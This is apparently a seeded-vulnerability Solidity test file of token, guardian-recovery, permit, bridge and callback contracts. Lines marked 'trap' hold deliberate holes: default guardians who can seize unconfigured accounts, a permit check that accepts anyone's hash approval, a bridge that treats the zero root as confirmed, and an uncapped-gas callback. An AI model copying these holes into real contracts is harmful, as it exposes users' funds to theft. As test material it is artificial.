// 0.8 runs=1000 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Plain, without an owner.
abstract contract Plain {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) internal _allowed;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        (name, symbol) = (name_, symbol_);
        _issue(msg.sender, supply * 1 ether);
    }

    function allowance(address who, address spender) public view virtual returns (uint256) {
        return _allowed[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pass(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance(from, msg.sender);
        if (left != type(uint256).max) _allowed[from][msg.sender] = left - value;
        _pass(from, to, value);
        return true;
    }

    function _issue(address to, uint256 value) internal {
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function _pass(address from, address to, uint256 value) internal virtual {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

interface IRecoverable {
    function attest(address lost, address fresh) external;
}

/// A guardian of accounts whose keys were lost.
contract Guardian {
    address private immutable _hand = msg.sender;

    function attest(IRecoverable token, address lost, address fresh) external {
        require(msg.sender == _hand, "not the guardian");
        token.attest(lost, fresh);
    }
}

/// Two of three guardians bring back what a lost key held.
contract KinKestrel is Plain("Kin Kestrel", "KIN", 26_000_000), IRecoverable {
    address[3] private _house;
    mapping(address => address[3]) private _named;
    mapping(bytes32 => uint256) private _attested;

    event Recovered(address indexed lost, address indexed fresh, uint256 value);

    constructor(address one, address two, address three) {
        _house = [one, two, three];
    }

    function nameGuardians(address[3] calldata who) external {
        _named[msg.sender] = who;
    }

    function guardiansOf(address who) public view returns (address[3] memory) {
        return _named[who][0] == address(0) ? _house : _named[who]; // trap
        // twin: return _named[who];
    }

    function attest(address lost, address fresh) external {
        address[3] memory all = guardiansOf(lost);
        uint256 at = msg.sender == all[0] ? 1 : msg.sender == all[1] ? 2 : msg.sender == all[2] ? 4 : 0;
        require(at != 0, "not a guardian");
        bytes32 id = keccak256(abi.encode(lost, fresh, all));
        uint256 votes = _attested[id] | at;
        _attested[id] = votes;
        if (votes == 1 || votes == 2 || votes == 4) return;
        delete _attested[id];
        uint256 value = balanceOf[lost];
        _pass(lost, fresh, value);
        emit Recovered(lost, fresh, value);
    }
}

interface IToken {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Signed transfers for any token.
contract Permits {
    mapping(bytes32 => address) public approvedBy;
    mapping(bytes32 => bool) public used;

    function hashOf(IToken token, address from, address to, uint256 value, uint256 nonce, uint256 deadline) public view returns (bytes32) {
        return keccak256(abi.encode(block.chainid, address(this), token, from, to, value, nonce, deadline));
    }

    /// For accounts that cannot sign.
    function approveHash(bytes32 hash) external {
        approvedBy[hash] = msg.sender;
    }

    function permitTransferFrom(
        IToken token,
        address from,
        address to,
        uint256 value,
        uint256 nonce,
        uint256 deadline,
        bytes calldata signature
    ) external {
        require(block.timestamp <= deadline, "too late");
        bytes32 hash = hashOf(token, from, to, value, nonce, deadline);
        require(!used[hash], "used");
        used[hash] = true;
        require(_agreed(hash, from, signature), "not signed");
        require(token.transferFrom(from, to, value), "failed");
    }

    function _agreed(bytes32 hash, address from, bytes calldata signature) private view returns (bool) {
        if (signature.length != 65) return approvedBy[hash] != address(0); // trap
        // twin: if (signature.length != 65) return approvedBy[hash] == from;
        bytes32 r = bytes32(signature[:32]);
        bytes32 s = bytes32(signature[32:64]);
        address signer = ecrecover(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", hash)), uint8(signature[64]), r, s);
        return signer != address(0) && signer == from;
    }
}

/// Signed transfers need no approval before.
contract PapyrusPipit is Plain("Papyrus Pipit", "PIPIT", 14_000_000) {
    address public immutable permits;

    constructor(address permits_) {
        permits = permits_;
    }

    function allowance(address who, address spender) public view override returns (uint256) {
        return spender == permits ? type(uint256).max : super.allowance(who, spender);
    }
}

interface IMintable {
    function mint(address to, uint256 value) external;
}

/// The near end of a bridge: roots are good two days after they were told.
contract Replica {
    address public immutable updater;
    bytes32 public committedRoot;
    mapping(bytes32 => uint256) public confirmAt;
    mapping(bytes32 => bytes32) public messages;
    mapping(bytes32 => bool) public processed;

    event Update(bytes32 indexed before, bytes32 indexed root);
    event Process(bytes32 indexed leaf);

    constructor(address updater_) {
        updater = updater_;
        confirmAt[committedRoot] = 1; // trap
        emit Update(0, committedRoot);
    }

    function update(bytes32 root) external {
        require(msg.sender == updater && root != 0, "updater");
        emit Update(committedRoot, root);
        committedRoot = root;
        confirmAt[root] = block.timestamp + 2 days;
    }

    function leafOf(IMintable token, address to, uint256 value, uint256 nonce) public pure returns (bytes32) {
        return keccak256(bytes.concat(keccak256(abi.encode(token, to, value, nonce))));
    }

    function prove(bytes32 leaf, bytes32[] calldata proof) public {
        bytes32 root = leaf;
        for (uint256 i; i < proof.length; i++)
            root = root < proof[i] ? keccak256(abi.encode(root, proof[i])) : keccak256(abi.encode(proof[i], root));
        require(acceptable(root), "root");
        messages[leaf] = root;
    }

    function acceptable(bytes32 root) public view returns (bool) {
        uint256 time = confirmAt[root];
        return time != 0 && block.timestamp >= time;
    }

    function process(IMintable token, address to, uint256 value, uint256 nonce) external {
        bytes32 leaf = leafOf(token, to, value, nonce);
        require(!processed[leaf] && acceptable(messages[leaf]), "not proven");
        processed[leaf] = true;
        emit Process(leaf);
        token.mint(to, value);
    }
}

/// Comes over a bridge.
contract NarrowsNoddy is Plain("Narrows Noddy", "NODDY", 19_000_000) {
    address public immutable replica;

    constructor(address replica_) {
        replica = replica_;
    }

    function mint(address to, uint256 value) external {
        require(msg.sender == replica, "replica");
        _issue(to, value);
    }

    function burn(uint256 value) external {
        balanceOf[msg.sender] -= value;
        totalSupply -= value;
        emit Transfer(msg.sender, address(0), value);
    }
}

/// Answers with what it has to say about a sale.
contract Echo {
    address private immutable _keeper = msg.sender;
    bool public verbose;
    uint256 public heardOf;

    function speak(bool on) external {
        require(msg.sender == _keeper, "keeper");
        verbose = on;
    }

    function heard(address, uint256) external returns (bytes memory) {
        heardOf++;
        if (!verbose) return "";
        uint256 words = 1;
        uint256 room = gasleft() * 333;
        while (words * words * 4 < room) words *= 2;
        while (words * words < room) words += words / 16;
        assembly {
            mstore(0x00, 0x20)
            return(0x00, mul(words, 0x20))
        }
    }
}

/// Tells an echo of sales, and goes on without its answer.
contract EchoEider is Plain("Echo Eider", "EIDER", 320_000_000) {
    Echo public immutable echo;
    address public pair;

    event Said(bytes what);

    constructor(Echo echo_) {
        echo = echo_;
    }

    function setPair(address pair_) external {
        require(pair == address(0), "known");
        pair = pair_;
    }

    function _pass(address from, address to, uint256 value) internal override {
        if (to == pair) {
            uint256 share = gasleft(); // trap
            // twin: uint256 share = 60_000;
            try echo.heard{gas: share}(from, value) returns (bytes memory what) {
                if (what.length != 0) emit Said(what);
            } catch {}
        }
        super._pass(from, to, value);
    }
}
